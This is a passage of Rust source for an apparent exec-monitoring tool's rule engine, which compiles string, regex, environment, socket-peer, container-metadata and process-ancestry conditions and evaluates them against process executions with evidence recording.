//! Rules compiled once: string sets, Aho-Corasick automata and regex sets, evaluated per exec
//! without allocating (evidence is gathered in a second pass, only for a rule that fired).

use crate::format::{ArgvCond, Cond, EnvCond, PeerCond, Scope, StrDetailed, StrSpec};
use crate::ExecView;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use base64::Engine as _;
use regex::RegexSet;
use rustc_hash::{FxHashMap, FxHashSet};
use std::cell::{Cell, RefCell};
use ward_event::{ContainerMeta, ExecEvent, FdInfo, FdKind, Layer, PodMeta, Protocol};

/// How far `ancestor` looks up the chain.
pub const MAX_ANCESTORS: usize = 16;

/// A compiled string condition.
#[derive(Debug, Default)]
pub struct StrMatcher {
    exact: FxHashSet<Box<str>>,
    prefix: Vec<Box<str>>,
    suffix: Vec<Box<str>>,
    contains: Option<AhoCorasick>,
    regex: Option<RegexSet>,
    ignore_case: bool,
    /// The `contains` strings and regexes as written (folded like the others), for
    /// [`StrMatcher::covered_by`].
    contains_raw: Vec<Box<str>>,
    regex_raw: Vec<Box<str>>,
    /// Only `contains` strings, none with a space or NUL in it.
    contains_without_spaces: bool,
}

/// Why a pattern did not compile (the caller adds file and line).
#[derive(Debug, thiserror::Error)]
pub enum PatternError {
    #[error("invalid regex: {0}")]
    Regex(#[from] regex::Error),
    #[error("invalid string set: {0}")]
    AhoCorasick(#[from] aho_corasick::BuildError),
    #[error("empty condition: {0} lists nothing to match")]
    Empty(&'static str),
    #[error("{0}")]
    Invalid(String),
    /// An error inside a nested condition table (`any` item, `parent`, ...), at that table's
    /// byte offset in the file, so the loader can name its line.
    #[error("{error}")]
    At {
        offset: usize,
        error: Box<PatternError>,
    },
}

impl PatternError {
    /// The byte offset of the innermost nested table the error is in, if it is in one.
    pub fn offset(&self) -> Option<usize> {
        match self {
            PatternError::At { offset, .. } => Some(*offset),
            _ => None,
        }
    }

    /// Places the error at `offset` unless a nested table already placed it deeper.
    fn at(self, offset: usize) -> PatternError {
        match self {
            e @ PatternError::At { .. } => e,
            e => PatternError::At {
                offset,
                error: Box::new(e),
            },
        }
    }
}

impl StrMatcher {
    pub fn compile(spec: &StrSpec, what: &'static str) -> Result<StrMatcher, PatternError> {
        // A plain string or list is an `equals` list; a table is used as written.
        let plain;
        let d: &StrDetailed = match spec {
            StrSpec::Detailed(d) => d,
            StrSpec::One(s) => {
                plain = StrDetailed {
                    equals: vec![s.clone()],
                    ..StrDetailed::default()
                };
                &plain
            }
            StrSpec::List(v) => {
                plain = StrDetailed {
                    equals: v.clone(),
                    ..StrDetailed::default()
                };
                &plain
            }
        };
        if d.equals.is_empty()
            && d.prefix.is_empty()
            && d.suffix.is_empty()
            && d.contains.is_empty()
            && d.regex.is_empty()
        {
            return Err(PatternError::Empty(what));
        }
        let fold = |v: &[String]| -> Vec<Box<str>> {
            v.iter()
                .map(|s| {
                    if d.ignore_case {
                        s.to_ascii_lowercase().into()
                    } else {
                        s.as_str().into()
                    }
                })
                .collect()
        };
        let contains = if d.contains.is_empty() {
            None
        } else {
            Some(
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(d.ignore_case)
                    .match_kind(MatchKind::LeftmostFirst)
                    .build(&d.contains)?,
            )
        };
        let regex = if d.regex.is_empty() {
            None
        } else {
            Some(RegexSet::new(&d.regex)?)
        };
        Ok(StrMatcher {
            exact: fold(&d.equals).into_iter().collect(),
            prefix: fold(&d.prefix),
            suffix: fold(&d.suffix),
            contains,
            regex,
            ignore_case: d.ignore_case,
            contains_raw: fold(&d.contains),
            regex_raw: d.regex.iter().map(|r| r.as_str().into()).collect(),
            contains_without_spaces: d.equals.is_empty()
                && d.prefix.is_empty()
                && d.suffix.is_empty()
                && d.regex.is_empty()
                && !d.contains.is_empty()
                && d.contains.iter().all(|c| !c.contains([' ', '\0'])),
        })
    }

    pub fn is_match(&self, s: &str) -> bool {
        self.is_match_but_contains(s) || self.contains.as_ref().is_some_and(|a| a.is_match(s))
    }

    /// [`is_match`](Self::is_match) without the `contains` strings (which a caller may look
    /// for in all arguments at once, [`Facts::with_joined`]).
    fn is_match_but_contains(&self, s: &str) -> bool {
        if self.ignore_case {
            // Exact, prefix and suffix compare ASCII case-insensitively without a copy.
            if self.exact.iter().any(|e| e.eq_ignore_ascii_case(s))
                || self.prefix.iter().any(|p| {
                    s.len() >= p.len() && s.as_bytes()[..p.len()].eq_ignore_ascii_case(p.as_bytes())
                })
                || self.suffix.iter().any(|p| {
                    s.len() >= p.len()
                        && s.as_bytes()[s.len() - p.len()..].eq_ignore_ascii_case(p.as_bytes())
                })
            {
                return true;
            }
        } else if (!self.exact.is_empty() && self.exact.contains(s))
            || self.prefix.iter().any(|p| s.starts_with(&**p))
            || self.suffix.iter().any(|p| s.ends_with(&**p))
        {
            return true;
        }
        self.regex.as_ref().is_some_and(|r| r.is_match(s))
    }

    /// Whether any of `args` matches; with `facts` (the exec's own arguments), the
    /// `contains` strings are looked for once in the arguments joined by NUL (no argument
    /// holds one, and no pattern does: a match cannot span two arguments).
    fn any_arg(&self, args: &[String], facts: Option<(&Facts, &ExecEvent)>) -> bool {
        match (&self.contains, facts) {
            (Some(ac), Some((fx, e))) if !args.is_empty() => {
                args.iter().any(|x| self.is_match_but_contains(x))
                    || fx.with_joined(e, |j| ac.is_match(j))
            }
            _ => args.iter().any(|x| self.is_match(x)),
        }
    }

    /// Whether the condition is only exact strings, prefixes and suffixes (a check of a few
    /// comparisons, no automaton).
    fn is_cheap(&self) -> bool {
        self.contains.is_none() && self.regex.is_none()
    }

    /// The exact strings, when the condition is nothing else (used to index rules by name).
    pub fn exact_only(&self) -> Option<impl Iterator<Item = &str>> {
        (!self.ignore_case
            && self.prefix.is_empty()
            && self.suffix.is_empty()
            && self.contains.is_none()
            && self.regex.is_none())
        .then(|| self.exact.iter().map(|s| &**s))
    }
}

#[derive(Debug, Default)]
pub struct ArgvMatcher {
    any: Option<StrMatcher>,
    none: Option<StrMatcher>,
    cmdline: Option<StrMatcher>,
    base64: Option<AhoCorasick>,
    base64_raw: Vec<String>,
    min_args: Option<usize>,
    max_argc: Option<usize>,
    url_listed: bool,
}

/// A compiled condition on a socket peer of stdin or stdout.
#[derive(Debug, Default)]
pub struct PeerMatcher {
    port: Option<Vec<u16>>,
    ip: Option<StrMatcher>,
    loopback: Option<bool>,
    protocol: Option<Vec<Protocol>>,
}

impl PeerMatcher {
    fn compile(p: &PeerCond) -> Result<PeerMatcher, PatternError> {
        if p.port.as_ref().is_some_and(Vec::is_empty) {
            return Err(PatternError::Empty("peer port"));
        }
        if p.protocol.as_ref().is_some_and(Vec::is_empty) {
            return Err(PatternError::Empty("peer protocol"));
        }
        Ok(PeerMatcher {
            port: p.port.clone(),
            ip: p
                .ip
                .as_ref()
                .map(|s| StrMatcher::compile(s, "peer ip"))
                .transpose()?,
            loopback: p.loopback,
            protocol: p.protocol.clone(),
        })
    }

    /// The peer's text form when `fd` is a connected inet socket whose peer matches.
    fn matches(&self, fd: &FdInfo, note: &mut dyn FnMut(&str, &str), what: &str) -> bool {
        let Some(s) = fd.remote_peer() else {
            return false;
        };
        if self
            .port
            .as_ref()
            .is_some_and(|p| !p.contains(&s.remote_port))
            || self
                .protocol
                .as_ref()
                .is_some_and(|p| !p.contains(&s.protocol))
            || self
                .loopback
                .is_some_and(|l| l != s.remote_ip.is_loopback())
        {
            return false;
        }
        if let Some(m) = &self.ip {
            // Formatted into a per-thread buffer: no allocation once it has grown.
            let held = PEER.with(|b| {
                use std::fmt::Write as _;
                let mut t = b.borrow_mut();
                t.clear();
                let _ = write!(t, "{}", s.remote_ip);
                m.is_match(&t)
            });
            if !held {
                return false;
            }
        }
        if what.is_empty() {
            return true;
        }
        use std::fmt::Write as _;
        let mut shown = String::new();
        let _ = match s.remote_ip {
            std::net::IpAddr::V6(ip) => write!(shown, "[{ip}]:{}", s.remote_port),
            ip => write!(shown, "{ip}:{}", s.remote_port),
        };
        note(what, &shown);
        true
    }

    fn implies(&self, b: &PeerMatcher) -> bool {
        sub_list(&self.port, &b.port)
            && covered(self.ip.as_ref(), b.ip.as_ref())
            && (b.loopback.is_none() || self.loopback == b.loopback)
            && sub_list(&self.protocol, &b.protocol)
    }
}

/// A compiled condition on the environment: some entry whose name (and value) match.
#[derive(Debug)]
pub struct EnvMatcher {
    name: StrMatcher,
    value: Option<StrMatcher>,
    /// When the name condition is only `equals` / `prefix` strings: those strings, for one
    /// search over the whole environment before any entry is split (an exec whose
    /// environment does not hold one of them anywhere cannot match; most execs).
    needles: Option<AhoCorasick>,
}

impl EnvMatcher {
    fn compile(c: &EnvCond) -> Result<EnvMatcher, PatternError> {
        let name = StrMatcher::compile(&c.name, "env.name")?;
        let needles = if name.suffix.is_empty() && name.contains.is_none() && name.regex.is_none() {
            Some(
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(name.ignore_case)
                    .build(name.exact.iter().chain(&name.prefix).map(|s| &**s))?,
            )
        } else {
            None
        };
        Ok(EnvMatcher {
            name,
            value: c
                .value
                .as_ref()
                .map(|v| StrMatcher::compile(v, "env.value"))
                .transpose()?,
            needles,
        })
    }

    /// The first entry of `env` that holds (`NAME=value` as given): slices, no allocation.
    /// An entry without `=` is a name with an empty value.
    fn find<'a>(&self, env: &'a ward_event::StrList) -> Option<&'a str> {
        if env.joined().is_empty() {
            return None;
        }
        if self
            .needles
            .as_ref()
            .is_some_and(|a| !a.is_match(env.joined()))
        {
            return None;
        }
        env.iter().find(|entry| {
            let (name, value) = entry.split_once('=').unwrap_or((entry, ""));
            self.name.is_match(name) && self.value.as_ref().is_none_or(|m| m.is_match(value))
        })
    }

    fn implies(&self, b: &EnvMatcher) -> bool {
        self.name.covered_by(&b.name)
            && match (&self.value, &b.value) {
                (_, None) => true,
                (Some(a), Some(bv)) => a.covered_by(bv),
                (None, Some(_)) => false,
            }
    }
}

/// A compiled condition tree.
#[derive(Debug, Default)]
///
/// The conditions are boxed, so that the tree itself is small (a few cache lines): judging an
/// exec reads which conditions a tree has on every rule tried, and the matchers of the few
/// that are there.
pub struct Matcher {
    scope: Option<Scope>,
    exe: Option<Box<StrMatcher>>,
    pub(crate) basename: Option<Box<StrMatcher>>,
    layer: Option<Vec<Layer>>,
    argv: Option<Box<ArgvMatcher>>,
    uid: Option<Vec<u32>>,
    stdin: Option<Vec<FdKind>>,
    stdout: Option<Vec<FdKind>>,
    stdin_peer: Option<Box<PeerMatcher>>,
    stdout_peer: Option<Box<PeerMatcher>>,
    image: Option<Box<StrMatcher>>,
    namespace: Option<Box<StrMatcher>>,
    labels: Vec<(String, StrMatcher)>,
    env: Option<Box<EnvMatcher>>,
    parent: Option<Box<Matcher>>,
    ancestor: Option<Box<Matcher>>,
    stdin_writer: Option<Box<Matcher>>,
    stdout_reader: Option<Box<Matcher>>,
    any: Vec<Matcher>,
    /// When every branch of `any` names its basenames ([`Matcher::gate_names`]): the
    /// branches (ascending) under each name, so an exec is tried only on the branches that
    /// can hold for it.
    any_index: Option<FxHashMap<Box<str>, Vec<u16>>>,
    not: Option<Box<Matcher>>,
}

/// One condition that held for a rule that fired: which field, and the value it saw.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Evidence {
    /// `exe`, `basename`, `argv`, `cmdline`, `argv.base64`, `layer`, `parent.basename`, ...
    pub field: String,
    pub value: String,
}

pub fn basename(path: &str) -> &str {
    // A byte search from the end: paths are short, and this runs several times per exec.
    let b = path.as_bytes();
    let mut i = b.len();
    while i > 0 {
        if b[i - 1] == b'/' {
            return &path[i..];
        }
        i -= 1;
    }
    path
}

/// The basenames of `e`'s filename and binary path; from `facts` when they are `e`'s (worked
/// out once per exec for every rule).
fn basenames<'e>(e: &'e ExecEvent, facts: Option<&Facts>, depth: usize) -> (&'e str, &'e str) {
    match facts.and_then(|f| f.bases.filter(|_| depth == 0)) {
        Some((f, r)) => (
            e.filename.get(f as usize..).unwrap_or(""),
            e.binary.path.get(r as usize..).unwrap_or(""),
        ),
        None => (basename(&e.filename), basename(&e.binary.path)),
    }
}

impl Matcher {
    pub fn compile(c: &Cond) -> Result<Matcher, PatternError> {
        let s = |spec: &Option<StrSpec>, what| -> Result<Option<Box<StrMatcher>>, PatternError> {
            spec.as_ref()
                .map(|sp| StrMatcher::compile(sp, what).map(Box::new))
                .transpose()
        };
        fn list<T>(v: &Option<Vec<T>>, what: &'static str) -> Result<(), PatternError> {
            match v {
                Some(v) if v.is_empty() => Err(PatternError::Empty(what)),
                _ => Ok(()),
            }
        }
        list(&c.layer, "layer")?;
        list(&c.uid, "uid")?;
        list(&c.stdin, "stdin")?;
        list(&c.stdout, "stdout")?;
        let argv = c
            .argv
            .as_ref()
            .map(|a| compile_argv(a).map(Box::new))
            .transpose()?;
        let mut labels = Vec::new();
        for (k, v) in c.labels.iter().flatten() {
            labels.push((k.clone(), StrMatcher::compile(v, "labels")?));
        }
        let sub =
            |x: &Option<Box<toml::Spanned<Cond>>>| -> Result<Option<Box<Matcher>>, PatternError> {
                x.as_ref()
                    .map(|b| {
                        Matcher::compile(b.get_ref())
                            .map(Box::new)
                            .map_err(|e| e.at(b.span().start))
                    })
                    .transpose()
            };
        let mut any = Vec::new();
        if let Some(v) = &c.any {
            if v.is_empty() {
                return Err(PatternError::Empty("any"));
            }
            for a in v {
                any.push(Matcher::compile(a.get_ref()).map_err(|e| e.at(a.span().start))?);
            }
        }
        let m = Matcher {
            scope: c.scope,
            exe: s(&c.exe, "exe")?,
            basename: s(&c.basename, "basename")?,
            layer: c.layer.clone(),
            argv,
            uid: c.uid.clone(),
            stdin: c.stdin.clone(),
            stdout: c.stdout.clone(),
            stdin_peer: c
                .stdin_peer
                .as_ref()
                .map(|p| PeerMatcher::compile(p).map(Box::new))
                .transpose()?,
            stdout_peer: c
                .stdout_peer
                .as_ref()
                .map(|p| PeerMatcher::compile(p).map(Box::new))
                .transpose()?,
            image: s(&c.image, "image")?,
            namespace: s(&c.namespace, "namespace")?,
            labels,
            env: c
                .env
                .as_ref()
                .map(|e| EnvMatcher::compile(e).map(Box::new))
                .transpose()?,
            parent: sub(&c.parent)?,
            ancestor: sub(&c.ancestor)?,
            stdin_writer: sub(&c.stdin_writer)?,
            stdout_reader: sub(&c.stdout_reader)?,
            any_index: None,
            any,
            not: sub(&c.not)?,
        };
        let mut m = m;
        m.any_index = m.branch_index();
        if m.is_empty() {
            return Err(PatternError::Invalid(
                "a condition table with no condition in it (it would match every exec)".into(),
            ));
        }
        for (what, peer, raw) in [
            ("stdin_writer", &m.stdin_writer, &c.stdin_writer),
            ("stdout_reader", &m.stdout_reader, &c.stdout_reader),
        ] {
            if peer.as_ref().is_some_and(|p| p.looks_beyond_itself()) {
                let e = PatternError::Invalid(format!(
                    "{what}: a pipe neighbour is judged on its own exec; parent, ancestor, \
                     stdin_writer and stdout_reader are not available inside it"
                ));
                return Err(e.at(raw.as_ref().map_or(0, |r| r.span().start)));
            }
        }
        Ok(m)
    }

    /// The basenames an exec must have for this tree to hold, when the tree says so: its own
    /// plain `basename` list, or else the union of its `any` branches' when every branch
    /// has one. Rules are indexed by these names and tried only for execs that bear one.
    pub(crate) fn gate_names(&self) -> Option<Vec<&str>> {
        if let Some(names) = self.basename.as_ref().and_then(|b| b.exact_only()) {
            return Some(names.collect());
        }
        if self.any.is_empty() {
            return None;
        }
        let mut all = Vec::new();
        for m in &self.any {
            all.extend(m.gate_names()?);
        }
        all.sort_unstable();
        all.dedup();
        Some(all)
    }

    /// Strings one of which the exec's argv (all of it, argument 0 included) must hold for
    /// this tree to hold, compared ASCII case-insensitively, when the tree says so: its
    /// `argv.any` or `argv.cmdline` is only `contains` strings (for `cmdline`, none with a
    /// space, which could span two arguments), or else every branch of its `any` has such
    /// strings (their union). Rules tried on every exec are gated by one search for all of
    /// them ([`crate::RuleSet`]).
    pub(crate) fn required_literals(&self) -> Option<Vec<&str>> {
        let contains_only = |m: &StrMatcher| {
            m.exact.is_empty()
                && m.prefix.is_empty()
                && m.suffix.is_empty()
                && m.regex.is_none()
                && !m.contains_raw.is_empty()
        };
        if let Some(a) = &self.argv {
            if let Some(m) = a.any.as_ref().filter(|m| contains_only(m)) {
                return Some(m.contains_raw.iter().map(|s| &**s).collect());
            }
            if let Some(m) = a
                .cmdline
                .as_ref()
                .filter(|m| contains_only(m) && m.contains_without_spaces)
            {
                return Some(m.contains_raw.iter().map(|s| &**s).collect());
            }
        }
        if self.any.is_empty() {
            return None;
        }
        let mut all = Vec::new();
        for m in &self.any {
            all.extend(m.required_literals()?);
        }
        Some(all)
    }

    /// Whether [`gate_names`](Self::gate_names) are this tree's own `basename` list.
    pub(crate) fn basename_is_gate(&self) -> bool {
        self.basename
            .as_ref()
            .and_then(|b| b.exact_only())
            .is_some()
    }

    /// Adds to `out` the basenames a pipe neighbour must bear for any neighbour condition
    /// of this tree (`stdin_writer`, `stdout_reader`, anywhere in it) to hold; false when a
    /// neighbour condition names none (then any exec may be a neighbour that matters).
    pub(crate) fn neighbour_names<'a>(&'a self, out: &mut Vec<&'a str>) -> bool {
        for n in [&self.stdin_writer, &self.stdout_reader]
            .into_iter()
            .flatten()
        {
            match n.gate_names() {
                Some(v) => out.extend(v),
                None => return false,
            }
        }
        self.any
            .iter()
            .chain(self.parent.as_deref())
            .chain(self.ancestor.as_deref())
            .chain(self.not.as_deref())
            .all(|m| m.neighbour_names(out))
    }

    /// The `any` branches by basename, when every branch is gated by names (and there are few
    /// enough to number in a `u16`).
    fn branch_index(&self) -> Option<FxHashMap<Box<str>, Vec<u16>>> {
        if self.any.len() < 2 || self.any.len() > usize::from(u16::MAX) {
            return None;
        }
        let mut index: FxHashMap<Box<str>, Vec<u16>> = FxHashMap::default();
        for (i, m) in self.any.iter().enumerate() {
            for n in m.gate_names()? {
                index.entry(n.into()).or_default().push(i as u16);
            }
        }
        Some(index)
    }

    /// Whether this tree (or a branch of it) needs more than the exec itself.
    fn looks_beyond_itself(&self) -> bool {
        self.parent.is_some()
            || self.ancestor.is_some()
            || self.stdin_writer.is_some()
            || self.stdout_reader.is_some()
            || self.any.iter().any(Matcher::looks_beyond_itself)
            || self.not.as_ref().is_some_and(|n| n.looks_beyond_itself())
    }

    /// Whether this tree has a condition on container metadata (image, namespace, labels)
    /// anywhere, including the ancestry and neighbours.
    pub fn uses_metadata(&self) -> bool {
        self.image.is_some()
            || self.namespace.is_some()
            || !self.labels.is_empty()
            || [
                &self.parent,
                &self.ancestor,
                &self.not,
                &self.stdin_writer,
                &self.stdout_reader,
            ]
            .into_iter()
            .flatten()
            .any(|m| m.uses_metadata())
            || self.any.iter().any(Matcher::uses_metadata)
    }

    /// Whether this tree asks the URL feed (`argv.url_listed`), anywhere.
    pub fn uses_url_feed(&self) -> bool {
        self.argv.as_ref().is_some_and(|a| a.url_listed)
            || [
                &self.parent,
                &self.ancestor,
                &self.not,
                &self.stdin_writer,
                &self.stdout_reader,
            ]
            .into_iter()
            .flatten()
            .any(|m| m.uses_url_feed())
            || self.any.iter().any(Matcher::uses_url_feed)
    }

    /// Whether this tree asks about pipe neighbours (anywhere, including the ancestry).
    pub fn uses_pipe_neighbours(&self) -> bool {
        self.stdin_writer.is_some()
            || self.stdout_reader.is_some()
            || [&self.parent, &self.ancestor, &self.not]
                .into_iter()
                .flatten()
                .any(|m| m.uses_pipe_neighbours())
            || self.any.iter().any(Matcher::uses_pipe_neighbours)
    }

    fn is_empty(&self) -> bool {
        self.scope.is_none()
            && self.exe.is_none()
            && self.basename.is_none()
            && self.layer.is_none()
            && self.argv.is_none()
            && self.uid.is_none()
            && self.stdin.is_none()
            && self.stdout.is_none()
            && self.stdin_peer.is_none()
            && self.stdout_peer.is_none()
            && self.image.is_none()
            && self.namespace.is_none()
            && self.labels.is_empty()
            && self.env.is_none()
            && self.parent.is_none()
            && self.ancestor.is_none()
            && self.stdin_writer.is_none()
            && self.stdout_reader.is_none()
            && self.any.is_empty()
            && self.not.is_none()
    }

    /// What this tree needs of an exec's cheap fields, as bits ([`Needs`]): its scope,
    /// layer list, `env` condition and `base64_contains` (each a condition of the tree
    /// itself, all of which must hold).
    pub(crate) fn needs(&self) -> Needs {
        let mut all = 0;
        match self.scope {
            Some(Scope::Container) => all |= Needs::IN_CONTAINER,
            Some(Scope::Host) => all |= Needs::ON_HOST,
            None => {}
        }
        if self.env.is_some() {
            all |= Needs::ENV;
        }
        if self.argv.as_ref().is_some_and(|a| a.base64.is_some()) {
            all |= Needs::BASE64_RUN;
        }
        let layers = self
            .layer
            .as_ref()
            .map_or(0, |l| l.iter().fold(0, |m, &x| m | Needs::layer_bit(x)));
        Needs { all, layers }
    }

    /// Whether the exec's own cheap fields already rule this tree out: scope, layer, uid,
    /// stdin/stdout kinds, an `env` condition on an empty environment, `base64_contains` on
    /// arguments without a base64 run (with `facts`, which must be `e`'s). A few comparisons,
    /// checked before [`truth`](Self::truth); true only where `truth` is `False`.
    #[inline]
    pub(crate) fn rejects(&self, e: &ExecEvent, facts: Option<&Facts>) -> bool {
        if let Some(s) = self.scope {
            if e.container_id.is_some() != (s == Scope::Container) {
                return true;
            }
        }
        if self
            .layer
            .as_ref()
            .is_some_and(|l| !l.contains(&e.binary.layer))
            || self.uid.as_ref().is_some_and(|u| !u.contains(&e.uid))
            || self
                .stdin
                .as_ref()
                .is_some_and(|k| !k.contains(&e.stdio[0].kind))
            || self
                .stdout
                .as_ref()
                .is_some_and(|k| !k.contains(&e.stdio[1].kind))
            || (self.env.is_some() && e.env.joined().is_empty())
            || self
                .exe
                .as_ref()
                .is_some_and(|x| x.is_cheap() && !x.is_match(&e.binary.path))
        {
            return true;
        }
        if let (Some(a), Some(f)) = (&self.argv, facts) {
            if a.base64.is_some() && !f.base64_runs(e.argv.get(1..).unwrap_or(&[])) {
                return true;
            }
        }
        false
    }

    /// Does the exec at `depth` of `view` (0 = the exec itself, 1 = its parent, ...) satisfy
    /// this? With `ev`, records the conditions that held. A condition that cannot be decided
    /// (container metadata missing) counts as not holding here; [`Matcher::truth`] tells the
    /// two apart.
    pub fn eval(
        &self,
        view: &dyn ExecView,
        depth: usize,
        ev: &mut Option<&mut Vec<Evidence>>,
        prefix: &str,
    ) -> bool {
        self.truth(view, depth, ev, prefix) == Truth::True
    }

    /// Three-valued [`eval`](Self::eval): `Unknown` when the answer depends on container
    /// metadata (image, namespace, labels) that the exec lacks (Kleene logic: `F` and `U` is
    /// `F`, `T` or `U` is `T`, not `U` is `U`). With `ev`, records the conditions that held
    /// and, as `<missing>`, the ones that could not be decided.
    pub fn truth(
        &self,
        view: &dyn ExecView,
        depth: usize,
        ev: &mut Option<&mut Vec<Evidence>>,
        prefix: &str,
    ) -> Truth {
        self.truth_of(view, depth, ev, prefix, false)
    }

    /// [`truth`](Self::truth); `named` when the caller found this tree by the exec's basename
    /// in an index of its plain `basename` list (or of its branches'), so that list holds and
    /// is not looked up again (unless evidence is recorded, which names the basename).
    pub(crate) fn truth_of(
        &self,
        view: &dyn ExecView,
        depth: usize,
        ev: &mut Option<&mut Vec<Evidence>>,
        prefix: &str,
        named: bool,
    ) -> Truth {
        let Some(e) = view.at(depth) else {
            return Truth::False;
        };
        let recording = ev.is_some();
        // Conditions that could not be decided; the result is Unknown unless one is False.
        let mut unknown = false;
        if let Some(s) = self.scope {
            let in_container = e.container_id.is_some();
            if in_container != (s == Scope::Container) {
                return Truth::False;
            }
        }
        if let Some(b) = self.basename.as_ref().filter(|_| recording || !named) {
            let (f, r) = basenames(e, view.facts(), depth);
            if b.is_match(f) {
                note(ev, prefix, "basename", f);
            } else if b.is_match(r) {
                note(ev, prefix, "basename", r);
            } else {
                return Truth::False;
            }
        }
        if let Some(x) = &self.exe {
            if !x.is_match(&e.binary.path) {
                return Truth::False;
            }
            note(ev, prefix, "exe", &e.binary.path);
        }
        if let Some(l) = &self.layer {
            if !l.contains(&e.binary.layer) {
                return Truth::False;
            }
            note(ev, prefix, "layer", e.binary.layer.as_str());
        }
        if let Some(u) = &self.uid {
            if !u.contains(&e.uid) {
                return Truth::False;
            }
        }
        if let Some(k) = &self.stdin {
            if !k.contains(&e.stdio[0].kind) {
                return Truth::False;
            }
        }
        if let Some(k) = &self.stdout {
            if !k.contains(&e.stdio[1].kind) {
                return Truth::False;
            }
        }
        if self.stdin_peer.is_some() || self.stdout_peer.is_some() {
            for (p, fd, what) in [
                (&self.stdin_peer, &e.stdio[0], "stdin_peer"),
                (&self.stdout_peer, &e.stdio[1], "stdout_peer"),
            ] {
                if let Some(p) = p {
                    // The peer's text is only built when evidence is wanted.
                    let what = if recording { what } else { "" };
                    if !p.matches(fd, &mut |f, v| note(ev, prefix, f, v), what) {
                        return Truth::False;
                    }
                }
            }
        }
        if let Some(m) = &self.env {
            match m.find(&e.env) {
                Some(entry) => note(ev, prefix, "env", entry),
                None => return Truth::False,
            }
        }
        if self.image.is_some() || self.namespace.is_some() || !self.labels.is_empty() {
            match self.metadata_truth(e, ev, prefix) {
                Truth::False => return Truth::False,
                Truth::Unknown => unknown = true,
                Truth::True => {}
            }
        }
        // Pipe neighbours before argv (a lookup is cheaper than argv patterns), and only
        // looked up for a condition that asks.
        if self.stdin_writer.is_some() || self.stdout_reader.is_some() {
            match self.neighbours_truth(view, depth, ev, prefix) {
                Truth::False => return Truth::False,
                Truth::Unknown => unknown = true,
                Truth::True => {}
            }
        }
        if let Some(a) = &self.argv {
            let recording = ev.is_some();
            // The shared per-exec values are the exec's own (depth 0 of the rule set's view).
            let facts = view.facts().filter(|_| depth == 0).map(|f| (f, e));
            if !eval_argv(a, e, view, facts, recording, &mut |f, v| {
                note(ev, prefix, f, v)
            }) {
                return Truth::False;
            }
        }
        if let Some(p) = &self.parent {
            // The prefix is only built when evidence is wanted: no allocation otherwise.
            let pre = evidence_prefix(ev, prefix, "parent.");
            match p.truth(view, depth + 1, ev, &pre) {
                Truth::False => return Truth::False,
                Truth::Unknown => unknown = true,
                Truth::True => {}
            }
        }
        if let Some(a) = &self.ancestor {
            let mut best: Option<(usize, Truth)> = None;
            for d in (depth + 1..=depth + MAX_ANCESTORS).take_while(|d| view.at(*d).is_some()) {
                match a.truth(view, d, &mut None, "") {
                    Truth::True => {
                        best = Some((d, Truth::True));
                        break;
                    }
                    Truth::Unknown if best.is_none() => best = Some((d, Truth::Unknown)),
                    _ => {}
                }
            }
            match best {
                None => return Truth::False,
                Some((d, t)) => {
                    unknown |= t == Truth::Unknown;
                    if ev.is_some() {
                        let pre = format!("{prefix}ancestor[{}].", d - depth);
                        a.truth(view, d, ev, &pre);
                    }
                }
            }
        }
        if !self.any.is_empty() {
            let mut undecided = None;
            let mut held = None;
            let facts = view.facts().filter(|_| depth == 0);
            let indexed = self.any_index.is_some();
            let mut judge = |i: usize| -> bool {
                let m = &self.any[i];
                // Only in the rule set's evaluation (with its facts), as for whole rules.
                if facts.is_some() && m.rejects(e, facts) {
                    return false;
                }
                match m.truth_of(view, depth, &mut None, "", indexed) {
                    Truth::True => {
                        held = Some(m);
                        true
                    }
                    Truth::Unknown if undecided.is_none() => {
                        undecided = Some(m);
                        false
                    }
                    _ => false,
                }
            };
            match &self.any_index {
                // Only the branches naming the exec's basename can hold; in branch order, so
                // the first branch that holds is the same as without the index.
                Some(index) => {
                    let (f, r) = basenames(e, view.facts(), depth);
                    let none: &[u16] = &[];
                    let a = index.get(f).map_or(none, Vec::as_slice);
                    let b = if r == f {
                        none
                    } else {
                        index.get(r).map_or(none, Vec::as_slice)
                    };
                    for i in merged(a, b) {
                        if judge(usize::from(i)) {
                            break;
                        }
                    }
                }
                None => {
                    for i in 0..self.any.len() {
                        if judge(i) {
                            break;
                        }
                    }
                }
            }
            match held.or(undecided) {
                None => return Truth::False,
                Some(m) => {
                    unknown |= held.is_none();
                    if ev.is_some() {
                        m.truth(view, depth, ev, prefix);
                    }
                }
            }
        }
        if let Some(n) = &self.not {
            match n.truth(view, depth, &mut None, "") {
                Truth::True => return Truth::False,
                Truth::Unknown => unknown = true,
                Truth::False => {}
            }
        }
        if unknown {
            Truth::Unknown
        } else {
            Truth::True
        }
    }
}

impl Matcher {
    /// The image, namespace and labels conditions of this tree (not its branches).
    fn metadata_truth(
        &self,
        e: &ExecEvent,
        ev: &mut Option<&mut Vec<Evidence>>,
        prefix: &str,
    ) -> Truth {
        let mut unknown = false;
        let meta = Meta::of(e);
        if let Some(m) = &self.image {
            match meta.image() {
                Known(Some(i)) if m.is_match(i) => note(ev, prefix, "image", i),
                Known(_) => return Truth::False,
                Missing => {
                    note(ev, prefix, "image", MISSING);
                    unknown = true;
                }
            }
        }
        if let Some(m) = &self.namespace {
            match meta.namespace() {
                Known(Some(n)) if m.is_match(n) => note(ev, prefix, "namespace", n),
                Known(_) => return Truth::False,
                Missing => {
                    note(ev, prefix, "namespace", MISSING);
                    unknown = true;
                }
            }
        }
        for (k, m) in &self.labels {
            match meta.label(k) {
                Known(Some(v)) if m.is_match(v) => {}
                Known(_) => return Truth::False,
                Missing => unknown = true,
            }
        }
        if unknown {
            Truth::Unknown
        } else {
            Truth::True
        }
    }

    /// The `stdin_writer` and `stdout_reader` conditions of this tree (not its branches).
    fn neighbours_truth(
        &self,
        view: &dyn ExecView,
        depth: usize,
        ev: &mut Option<&mut Vec<Evidence>>,
        prefix: &str,
    ) -> Truth {
        let mut unknown = false;
        for (cond, what, writer) in [
            (&self.stdin_writer, "stdin_writer.", true),
            (&self.stdout_reader, "stdout_reader.", false),
        ] {
            let Some(cond) = cond else { continue };
            let peer = if writer {
                view.stdin_writer(depth)
            } else {
                view.stdout_reader(depth)
            };
            let Some(peer) = peer else {
                return Truth::False;
            };
            let pre = evidence_prefix(ev, prefix, what);
